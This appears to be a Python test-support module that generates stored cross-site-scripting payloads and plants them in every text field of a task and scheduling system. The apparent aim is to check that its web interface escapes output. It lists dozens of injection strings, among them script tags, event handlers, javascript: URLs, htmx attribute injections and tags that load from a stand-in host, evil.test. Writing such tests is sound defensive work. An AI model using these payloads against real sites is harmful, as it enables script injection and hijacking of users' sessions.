"""Payloads that would run in a careless page, and a pool that stores them in every string."""

from __future__ import annotations

import asyncio
from collections.abc import Mapping
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

from redis_state.worker import Handler, Schedule, TaskContext
from tests.support.http.gateway import Served, ends, paused

# How a payload leaves the place where it was put.
BREAKOUTS = (
    "",
    '">',
    "'>",
    "</textarea></title></pre></svg>",
    "</script>",
    "-->",
    "]]>",
    "</select></option></label>",
    "a\r\n\r\nevent: end\r\ndata: ",
    '" ',
    "' ",
    "\u2028\x00</code></li>",
)
# What it does outside. XSS is the place where it was stored.
BODIES = (
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "javascript:alert('XSS')",
    "{{ 7*7 }}{% raw %}XSS",
    "autofocus onfocus=alert('XSS') x=",
    "hx-on:load='alert(1)' x='XSS",
    "<div hx-get=//evil.test hx-trigger=load>XSS</div>",
    "<div hx-sse:connect=//evil.test>XSS</div>",
    "<div data-hx-get=//evil.test data-hx-trigger=load>XSS</div>",
    "<hx-partial hx-target=body>XSS</hx-partial>",
    "<!--XSS",
    "<base href=//evil.test>XSS",
    "<meta http-equiv=refresh content='0;url=//evil.test'>XSS",
    "<link rel=stylesheet href=//evil.test>XSS",
    "<style>*{background:url(//evil.test)}</style>XSS",
    "<b style=background:url(//evil.test)>XSS</b>",
    "<iframe srcdoc='<script>alert(1)</script>'>XSS</iframe>",
    "<iframe src=javascript:alert('XSS')></iframe>",
    "<object data=//evil.test>XSS</object>",
    "<embed src=//evil.test>XSS",
    "<form action=//evil.test><button autofocus>XSS</button></form>",
    "<button formaction=//evil.test>XSS</button>",
    "<input type=hidden name=form_token value=XSS>",
    "<a href=javascript:alert('XSS')>XSS</a>",
    "<a href=//evil.test ping=//evil.test>XSS</a>",
    "<details open ontoggle=alert('XSS')>",
    "<video><source onerror=alert('XSS')></video>",
    "<audio src=x onerror=alert('XSS')>",
    "<body onload=alert('XSS')>",
    "<math href=javascript:alert('XSS')>XSS</math>",
    "<svg><animate onbegin=alert('XSS') attributeName=x dur=1s>",
    "<svg><use href=//evil.test#x></svg>XSS",
    "<svg><foreignObject><script>alert('XSS')</script></foreignObject></svg>",
    "<table background=//evil.test>XSS</table>",
    "<marquee onstart=alert('XSS')>",
    "<template shadowrootmode=open><script>alert('XSS')</script></template>",
    "<noscript><img src=x onerror=alert('XSS')></noscript>",
    "<plaintext>XSS",
    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    "<ScRiPt/x>alert('XSS')</ScRiPt >",
    "&lt;script&gt;alert('XSS')&lt;/script&gt;&#34;&quot;",
    "%3Cscript%3Ealert('XSS')%3C/script%3E\u202e",
)
# No common divisor: the first payloads have all of both, and no two are alike.
MOST = len(BREAKOUTS) * len(BODIES)
PLAIN = -1

_DAY = timedelta(days=1)


def evil(number: int, where: str) -> str:
    """Make a payload, with the place where it is stored; for `PLAIN`, harmless text."""
    if number == PLAIN:
        return f"plain {where}"
    breakout, body = BREAKOUTS[number % len(BREAKOUTS)], BODIES[number % len(BODIES)]
    return f"{breakout}{body.replace('XSS', where)} {number}"


@dataclass(frozen=True, slots=True)
class Planted:
    """Where the payload of a number is stored."""

    number: int
    session: str
    task: str
    pause_id: str


def hostile_handlers() -> Mapping[str, Handler]:
    """Return handlers that store the payload of their input's number wherever they can."""

    async def asks(ctx: TaskContext) -> Any:
        number: int = ctx.input
        await ctx.step(evil(number, "step"), _nothing)
        await ctx.progress(evil(number, "message"))
        pause = await ctx.open_pause(
            evil(number, "reason"),
            {evil(number, "name"): evil(number, "payload")},
            tags=[evil(number, "tag")[:60]],
            schema=_form(number),
        )
        return (await ctx.wait_for(pause)).value

    async def fails(ctx: TaskContext) -> Any:
        raise RuntimeError(evil(ctx.input, "error"))

    return {"asks": asks, "fails": fails}


async def plant(served: Served, number: int) -> Planted:
    """Store a payload: in a task that waits, one that has failed, and a schedule."""
    session, task = evil(number, "session"), evil(number, "task")
    client = served.client
    await client.submit(
        "asks",
        number,
        session_id=session,
        task_id=task,
        description=evil(number, "description"),
        attributes={"note": evil(number, "attribute")[:60]},
    )
    await client.submit("fails", number, session_id=session, task_id="f")
    await client.schedules.save(
        Schedule(
            schedule_id=evil(number, "schedule"),
            handler="fails",
            session_id=session.replace("{", "{{").replace("}", "}}"),
            every=_DAY,
            description=evil(number, "of a schedule"),
        )
    )
    pause_id, _ = await asyncio.gather(paused(served, session, task), ends(served, session, "f"))
    return Planted(number, session, task, pause_id)


def _form(number: int) -> dict[str, Any]:
    return {
        "type": "object",
        "title": evil(number, "form"),
        "properties": {
            evil(number, "property"): {"title": evil(number, "title"), "type": "string"},
            "x": {"description": evil(number, "help"), "enum": [evil(number, "choice")]},
            "y": {"type": "string", "default": evil(number, "default")},
            "z": {"type": "string", "maxLength": 900, "default": evil(number, "long")},
        },
    }


async def _nothing() -> None:
    return None
